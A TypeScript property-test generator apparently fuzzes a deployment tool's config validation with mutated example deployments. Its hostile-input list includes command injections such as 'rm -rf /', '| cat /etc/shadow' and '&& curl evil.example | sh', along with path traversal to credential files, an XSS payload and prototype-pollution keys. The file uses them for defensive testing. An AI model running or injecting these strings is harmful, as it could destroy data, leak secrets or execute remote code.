/** The generator of hostile deployments shared by the property tests (test/property/config-*.test.ts). */
import fc from "fast-check";
import geo from "../../examples/geo-redundant";
import native from "../../examples/native-single-region";
import single from "../../examples/single-region";
import standalone from "../../examples/standalone-db";
import upgrade from "../../examples/upgrade-7-4-4";
import vm from "../../examples/vm-appliances";

export type Json = any;
export type Path = Array<string | number>;

export const REAL_SHA = "c35ff1a5d27d6710311263df9f1545b7d65e05e82ca8114622339028edb674ff";
export const BASES: Json[] = [single, geo, native, standalone, vm, upgrade].map((b) => JSON.parse(JSON.stringify(b).replace(/"0{64}"/g, `"${REAL_SHA}"`)));

/** Every path to a value (leaf or container) of a JSON value. */
function pathsOf(value: Json, prefix: Path = []): Path[] {
  const out: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...pathsOf(v, [...prefix, i])));
  else if (value !== null && typeof value === "object") for (const k of Object.keys(value)) out.push(...pathsOf(value[k], [...prefix, k]));
  return out;
}
const BASE_PATHS = BASES.map((b) => pathsOf(b).filter((p) => p.length > 0));
/** Numeric fields of each base, plus nodeId and ramGb of every DB node (where the crashes were). */
const NUMBER_PATHS = BASES.map((b, i) => [
  ...BASE_PATHS[i]!.filter((p) => typeof getAt(b, p) === "number"),
  ...b.database.nodes.flatMap((_: unknown, n: number) => [
    ["database", "nodes", n, "nodeId"],
    ["database", "nodes", n, "ramGb"],
    ["database", "nodes", n, "cpus"],
  ]),
]);
/** Name fields: looked up by name across the deployment. */
const NAME_PATHS = BASES.map((b) => [
  ...b.emsNodes.map((_: unknown, n: number) => ["emsNodes", n, "name"]),
  ...b.database.nodes.map((_: unknown, n: number) => ["database", "nodes", n, "name"]),
  ["database", "initialPrimary"],
]);
const ODD_NAMES = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "pg-1", "pg-2", "ems-1", "pgw-1", "pg-9"];

const HOSTILE = [
  "$(id)",
  "`id`",
  "'; rm -rf / #",
  '"; reboot; "',
  "a\nb",
  "x\r\ny",
  "${var.db_password}",
  "%{ if true }x%{ endif }",
  "$HOME",
  "\u0000",
  "\u001b[31mred",
  "\u007f",
  "\u2028",
  "| cat /etc/shadow",
  "&& curl evil.example | sh",
  "../../etc/passwd",
  "/opt/../etc",
  "~/.ssh/id_rsa",
  " ",
  "",
  "<script>alert(1)</script>",
  "*bold* _it_ [x](http://e)",
  "constructor",
  "__proto__",
  "toString",
  "999.999.999.999",
  "1.2.3.4.5",
  "10.20.0.311",
  "10.0.0.0/99",
  "fd00::/999",
  "::1",
  "fe80::1%eth0",
  "ems.example.com",
  "-leading-dash",
  "UPPER",
  "port1-is-way-too-long-for-fortios",
  "0".repeat(64),
  "x".repeat(5000),
  "é漢字",
  "\\\\server\\share",
];
const NUMBERS = [-1, 0, -0, 0.5, 1e-9, 0.001, 0.25, 1, 2, 4, 30, 31, 99, 65535, 65536, 2 ** 31 - 1, 2 ** 31, 2 ** 53, 1e21, Infinity, -Infinity, NaN, 3.7];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...HOSTILE), fc.constantFrom("pg-1", "/opt/ems", "10.0.0.1", "root", "port1", "./x.bin"), fc.boolean())
      .map(([h, ok, after]) => (after ? `${ok}${h}` : `${h}${ok}`)),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
);

function deep(depth: number): Json {
  let v: Json = "x";
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}

/** A replacement value: hostile strings, odd numbers and odd structures. */
const replacement: fc.Arbitrary<Json> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  {
    weight: 2,
    arbitrary: fc.constantFrom<Json>(null, true, false, [], {}, [[]], { constructor: "x" }, { __proto__: "y" }, ["a", 1, null], deep(60), deep(3000)),
  },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
);

export type Mutation =
  | { kind: "set"; path: Path; value: Json }
  | { kind: "delete"; path: Path }
  | { kind: "add-key"; path: Path; key: string; value: Json }
  | { kind: "dup"; path: Path };

export function getAt(root: Json, path: Path): Json {
  return path.reduce((cur, k) => (cur === null || typeof cur !== "object" ? undefined : cur[k]), root);
}

function apply(root: Json, m: Mutation): void {
  if (m.path.length === 0) return;
  const parent = getAt(root, m.path.slice(0, -1));
  const key = m.path[m.path.length - 1]!;
  if (parent === null || typeof parent !== "object") return;
  if (m.kind === "set") parent[key] = m.value;
  else if (m.kind === "delete") {
    if (Array.isArray(parent) && typeof key === "number") parent.splice(key, 1);
    else delete parent[key];
  } else if (m.kind === "add-key") {
    const target = getAt(root, m.path);
    if (target !== null && typeof target === "object" && !Array.isArray(target))
      Object.defineProperty(target, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
  } else if (m.kind === "dup") {
    const target = getAt(root, m.path);
    if (Array.isArray(target) && target.length > 0) target.push(JSON.parse(JSON.stringify(target[0])));
  }
}

/** A base deployment with 1-3 mutations, and the mutations. */
export const hostileDeployment = fc.integer({ min: 0, max: BASES.length - 1 }).chain((b) =>
  fc
    .array(
      fc.oneof(
        { weight: 8, arbitrary: fc.record({ kind: fc.constant("set" as const), path: fc.constantFrom(...BASE_PATHS[b]!), value: replacement }) },
        {
          weight: 2,
          arbitrary: fc.record({
            kind: fc.constant("set" as const),
            path: fc.constantFrom(...NUMBER_PATHS[b]!),
            value: fc.oneof(fc.constantFrom(...NUMBERS), fc.double(), fc.integer()),
          }),
        },
        {
          weight: 2,
          arbitrary: fc.record({ kind: fc.constant("set" as const), path: fc.constantFrom(...NAME_PATHS[b]!), value: fc.constantFrom(...ODD_NAMES) }),
        },
        { weight: 1, arbitrary: fc.record({ kind: fc.constant("delete" as const), path: fc.constantFrom(...BASE_PATHS[b]!) }) },
        {
          weight: 1,
          arbitrary: fc.record({
            kind: fc.constant("add-key" as const),
            path: fc.constantFrom<Path>([], ["database"], ["ems"], ["emsNodes", 0], ["database", "nodes", 0], ["appliances", "hostnames"]),
            key: fc.constantFrom("constructor", "__proto__", "toString", "extra", "${x}", "nodeId", "location", "priority", "initialPrimary"),
            value: replacement,
          }),
        },
        { weight: 1, arbitrary: fc.record({ kind: fc.constant("dup" as const), path: fc.constantFrom<Path>(["emsNodes"], ["database", "nodes"]) }) },
      ),
      { minLength: 1, maxLength: 3 },
    )
    .map((mutations) => {
      const input = JSON.parse(JSON.stringify(BASES[b]));
      for (const m of mutations) apply(input, m);
      return { input, mutations };
    }),
);
